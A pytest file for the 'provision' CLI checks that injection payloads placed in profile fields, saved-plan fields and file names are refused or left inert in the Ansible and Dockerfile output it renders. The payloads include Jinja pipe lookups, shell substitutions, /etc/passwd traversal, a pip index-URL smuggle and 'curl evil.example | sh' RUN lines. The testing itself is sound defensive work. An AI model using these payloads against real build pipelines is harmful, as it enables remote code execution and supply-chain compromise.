"""A corpus of hostile profiles: Jinja, shell metacharacters, paths and line breaks put into every string field
of a real profile. Each must either be refused with one line that names the field (exit 2), or, where the field
takes free text, be carried without reaching anything that Ansible templates or a shell or Dockerfile runs.
A marker file shows that nothing ran."""

from __future__ import annotations

import uuid
from pathlib import Path
from typing import Any

import click.testing
import pytest
import typer.main
from ruamel.yaml import YAML
from typer.testing import CliRunner

from provision.cli import app

ROOT = Path(__file__).resolve().parents[2]
MARKER = Path("/tmp") / f"provision-pwned-{uuid.uuid4().hex}"
PAYLOADS = [text.replace("MARK", str(MARKER)) for text in (
    "{{ lookup('pipe', 'touch MARK') }}",
    "{% if true %}x{% endif %}",
    "$(touch MARK)",
    "`touch MARK`",
    "x; touch MARK",
    "x && touch MARK #",
    "../../../../etc/passwd",
    "x\nRUN touch MARK",
    "x' --index-url http://evil.example/ '",
)]
# Fields whose values are free text by design (never rendered where they could act).
FREE_TEXT = {"description"}


def string_fields(node: Any, path: tuple = ()) -> list[tuple]:
    if isinstance(node, dict):
        return [p for k, v in node.items() for p in string_fields(v, (*path, k))]
    if isinstance(node, list):
        return [p for i, v in enumerate(node) for p in string_fields(v, (*path, i))]
    return [path] if isinstance(node, str) else []


BASE = YAML(typ="safe").load((ROOT / "profiles/deskmini.yaml").read_text())
FIELDS = string_fields(BASE)


def put(doc: Any, path: tuple, value: str) -> Any:
    import copy

    doc = copy.deepcopy(doc)
    node = doc
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return doc


def test_the_corpus_covers_the_fields_that_reach_templates():
    names = {".".join(str(p) for p in f) for f in FIELDS}
    assert {"name", "description", "hardware.gpu.model", "hardware.cpu.model", "software.user",
            "software.jupyter.bind", "software.frameworks.0.name", "target.os.release"} <= names


@pytest.mark.parametrize("field", FIELDS, ids=lambda f: ".".join(str(p) for p in f))
def test_hostile_strings_are_refused_or_inert(field, tmp_path):
    runner = CliRunner()
    dotted = ".".join(str(p) for p in field)
    for payload in PAYLOADS:
        profile = tmp_path / "hostile.yaml"
        yaml = YAML()
        with profile.open("w") as fh:
            yaml.dump(put(BASE, field, payload), fh)
        out = tmp_path / "out"
        result = runner.invoke(app, ["render", str(profile), "-o", str(out)])
        text = result.output
        assert "Traceback" not in text, text
        assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
        if field[0] in FREE_TEXT:
            assert result.exit_code == 0, text
            rendered = "".join(p.read_text() for p in out.rglob("*") if p.is_file() and p.suffix != ".json")
            assert "touch" not in rendered and "{{ lookup" not in rendered and "evil.example" not in rendered
        else:
            assert result.exit_code == 2, f"{dotted}={payload!r} was accepted:\n{text}"
            errors = [line for line in text.splitlines() if line.startswith("error:")]
            assert errors, text
            assert any(str(field[-1]) in line or "hostile.yaml" in line for line in errors), text
    assert not MARKER.exists(), f"a payload ran: {MARKER} exists"


# --- Outputs parsed as their consumers parse them ----------------------------------------------------------------
# A payload is inert when the Dockerfile has the same instructions, site.yml the same plays and the variables render
# to themselves under Jinja: nothing a value carries became syntax.

GOLDEN_PLAN = ROOT / "tests" / "golden" / "plans" / "deskmini.json"
INJECTED_NAME = "p\nFROM alpine AS injected\nRUN curl evil.example | sh\n#.yaml"


def dockerfile_instructions(text: str) -> list[tuple[str, str]]:
    """(INSTRUCTION, arguments) per logical line, as BuildKit's parser reads them: comments and blank lines dropped,
    lines ending in a backslash joined with the next."""
    out: list[tuple[str, str]] = []
    pending = ""
    for raw in text.splitlines():
        stripped = raw.strip()
        if not pending and (not stripped or stripped.startswith("#")):
            continue
        if pending and stripped.startswith("#"):
            continue  # a comment inside a continued instruction is skipped
        if raw.rstrip().endswith("\\"):
            pending += raw.rstrip()[:-1] + " "
            continue
        line = (pending + raw).strip()
        pending = ""
        word, _, rest = line.partition(" ")
        out.append((word.upper(), rest))
    assert not pending, "the Dockerfile ends inside a continued line"
    return out


def render_outputs(plan, out: Path, profile_path: str | None = None) -> tuple[str, Path]:
    from provision.render.ansible import render_ansible
    from provision.render.docker import render_dockerfile

    files = render_ansible(plan, out)
    return render_dockerfile(plan, profile_path), files["playbook"]


def assert_inert(dockerfile: str, playbook: Path, baseline: list[tuple[str, str]]) -> None:
    import jinja2
    import yaml

    got = dockerfile_instructions(dockerfile)
    assert [i for i, _ in got] == [i for i, _ in baseline], got
    assert sum(1 for i, _ in got if i == "FROM") == 2
    plays = yaml.safe_load(playbook.read_text())
    # The preflight's play, its gate, then the plan's plays (the full path's and the fast path's): nothing else.
    assert isinstance(plays, list) and len(plays) == 4, plays
    assert set(plays[0]) == {"name", "hosts", "become", "gather_subset", "vars_files", "roles"}
    assert set(plays[1]) == {"name", "hosts", "gather_facts", "tasks"}
    assert set(plays[2]) == {"name", "hosts", "become", "gather_facts", "environment", "vars_files", "vars", "tasks"}
    # The plays' own variables are provision's fixed hand-overs between roles (render.ansible.HANDOVER), no profile text.
    from provision.render.ansible import HANDOVER, LOCK_NOTE
    assert plays[2]["vars"] == {**HANDOVER, "host_record_notes": f"{{{{ {LOCK_NOTE} + (ledger_finished | default([])) }}}}"}
    assert all(set(t) == {"name", "ansible.builtin.include_role", "tags"} for t in plays[2]["tasks"])
    assert set(plays[3]) == {"name", "hosts", "become", "gather_facts", "environment", "vars_files", "vars", "roles"}
    assert plays[2]["hosts"] == ["all", "&provision_full"] and plays[3]["hosts"] == ["all", "&provision_fast"]

    class Unsafe(yaml.SafeLoader):
        pass

    Unsafe.add_constructor("!unsafe", lambda loader, node: ("unsafe", loader.construct_scalar(node)))
    variables = yaml.load((playbook.parent / "vars" / "plan.yml").read_text(), Loader=Unsafe)  # noqa: S506
    env = jinja2.Environment(undefined=jinja2.StrictUndefined)  # noqa: S701 - rendering YAML values, not HTML

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)
        elif isinstance(node, str):
            assert env.from_string(node).render() == node, node  # Ansible would change nothing in it
    walk(variables)


def test_dockerfile_parser_sees_an_injected_instruction():
    text = "FROM a AS venv\nRUN x \\\n  y\n# c\nFROM b AS runtime\nRUN z\n"
    assert [i for i, _ in dockerfile_instructions(text)] == ["FROM", "RUN", "FROM", "RUN"]
    assert "RUN" in [i for i, _ in dockerfile_instructions(text.replace("# c", "# c\nRUN evil"))]


def test_a_profile_file_name_with_line_breaks_is_refused_with_one_line(tmp_path):
    target = tmp_path / INJECTED_NAME
    target.write_text((ROOT / "profiles" / "deskmini.yaml").read_text())
    result = CliRunner().invoke(app, ["render", str(target), "-o", str(tmp_path / "out")])
    assert result.exit_code == 2, result.output
    [line] = [x for x in result.output.splitlines() if x]
    assert line.startswith("error: ") and "control characters" in line and "rename the file" in line
    assert "\\nFROM alpine" in line  # escaped, on the one line
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("name", [INJECTED_NAME, "p{{ lookup('pipe', 'id') }}.yaml", "p{% raw %}.yaml",
                                  "p\" \\\n$(id)`id`.yaml"])
def test_renderers_quote_a_profile_path_however_it_came(tmp_path, name):
    """The renderers do not rely on the loader: a plan whose profile_path holds line breaks and Jinja renders to
    the same instructions and plays."""
    from provision.pipeline.plan import plan_for

    plan = plan_for(ROOT / "profiles" / "deskmini.yaml")
    baseline = dockerfile_instructions(render_outputs(plan, tmp_path / "base")[0])
    hostile = plan.model_copy(update={"profile_path": f"profiles/{name}"})
    dockerfile, playbook = render_outputs(hostile, tmp_path / "out", f"profiles/{name}")
    assert_inert(dockerfile, playbook, baseline)
    header = dockerfile.splitlines()[0]
    assert header.startswith("# Generated by provision") and header.endswith("; do not edit")


def test_a_profile_named_with_jinja_renders_inert(tmp_path):
    source = (ROOT / "profiles" / "deskmini.yaml").read_text()
    target = tmp_path / "p{{ lookup('pipe', 'id') }}{% if true %}x{% endif %}.yaml"
    target.write_text(source)
    result = CliRunner().invoke(app, ["render", str(target), "-o", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    from provision.pipeline.plan import plan_for

    baseline = dockerfile_instructions(render_outputs(plan_for(ROOT / "profiles" / "deskmini.yaml"), tmp_path / "b")[0])
    assert_inert((tmp_path / "out" / "Dockerfile").read_text(), tmp_path / "out" / "site.yml", baseline)
    assert not MARKER.exists()


def plan_string_fields(node: Any) -> list[tuple]:
    """One field per kind (the first of each list: reasons.0.why stands for every reason's)."""
    seen, fields = set(), []
    for field in string_fields(node):
        kind = tuple("*" if isinstance(p, int) else p for p in field)
        if kind not in seen:
            seen.add(kind)
            fields.append(field)
    return fields


PLAN_DATA = __import__("json").loads(GOLDEN_PLAN.read_text())
PLAN_FIELDS = plan_string_fields(PLAN_DATA)
PLAN_PAYLOADS = [*PAYLOADS, "x\nRUN touch MARK".replace("MARK", str(MARKER)), "ml && touch x",
                 "torch==2.0 --extra-index-url http://evil.example/ --trusted-host evil.example",
                 "--extra-index-url http://evil.example/", "x\x1b[31m", "a" * 5000]
COMMAND = typer.main.get_command(app)  # built once: typer takes ~0.1 s to build it for each invoke
PROSE = {"reasons", "warnings"}  # shown by `provision plan`, never rendered: only the common rule applies


def test_the_plan_corpus_covers_every_kind_of_field():
    names = {".".join(str(p) for p in f) for f in PLAN_FIELDS}
    assert {"user", "python.venv", "python.interpreter", "image.base_image", "frameworks.0.index_url",
            "frameworks.0.requirements.0", "jupyter.requirements.0", "verify.numpy_requirement", "cuda.packages.0",
            "profile_path", "gpu.model", "jupyter.bind", "reasons.0.why"} <= names


@pytest.mark.parametrize("field", PLAN_FIELDS, ids=lambda f: ".".join(str(p) for p in f))
def test_a_crafted_saved_plan_is_refused_or_inert(field, tmp_path, monkeypatch):
    """`provision build plan.json` with a payload in any field: refused with one line per problem naming the field
    (exit 2, nothing built), or, for prose, built from a Dockerfile whose instructions did not change."""
    import json

    import provision.runners.docker as runner
    from provision.pipeline.plan import plan_from

    built: list[str] = []

    def fake_build(plan, **kwargs):
        # What runners.docker.build renders once its inputs are fetched (this plan has no managed interpreter whose
        # archive's sha256 the Dockerfile would name): the plan as the CLI handed it over, nothing built.
        from provision.render.docker import render_dockerfile

        built.append(render_dockerfile(plan, kwargs["profile_path"], skip_frameworks=kwargs["skip_frameworks"]))
        raise SystemExit(0)

    monkeypatch.setattr(runner, "build", fake_build)
    baseline = dockerfile_instructions(render_outputs(plan_from(GOLDEN_PLAN), tmp_path / "base")[0])
    dotted = ".".join(str(p) for p in field)
    for payload in PLAN_PAYLOADS:
        built.clear()
        path = tmp_path / "plan.json"
        path.write_text(json.dumps(put(PLAN_DATA, field, payload), indent=2))
        result = click.testing.CliRunner().invoke(COMMAND, ["build", str(path)])
        assert "Traceback" not in result.output, result.output
        if result.exit_code == 2:
            lines = [x for x in result.output.splitlines() if x]
            assert lines and all(x.startswith("error: plan.json:") or "plan.json:" in x for x in lines), result.output
            assert any(f": {field[0]}" in x for x in lines), result.output
            assert all(len(x) < 800 and "\x1b" not in x for x in lines), result.output
            assert not built
            continue
        assert field[0] in PROSE or field == ("profile_path",), f"{dotted}={payload!r} was accepted"
        assert built, result.output
        plan = plan_from(path)
        dockerfile, playbook = render_outputs(plan, tmp_path / "out", str(path))
        assert dockerfile == built[0]
        assert_inert(dockerfile, playbook, baseline)
    assert not MARKER.exists()


def test_a_base_image_option_with_a_line_break_is_refused():
    from provision.errors import UsageError
    from provision.pipeline.plan import plan_for
    from provision.render.docker import with_base_image

    plan = plan_for(ROOT / "profiles" / "deskmini.yaml")
    with pytest.raises(UsageError, match="not an image reference"):
        with_base_image(plan, "debian:13\nRUN curl evil.example | sh")
    assert with_base_image(plan, "localhost:5000/nvidia/cuda:12.6.3-runtime-ubuntu24.04").image.base_image
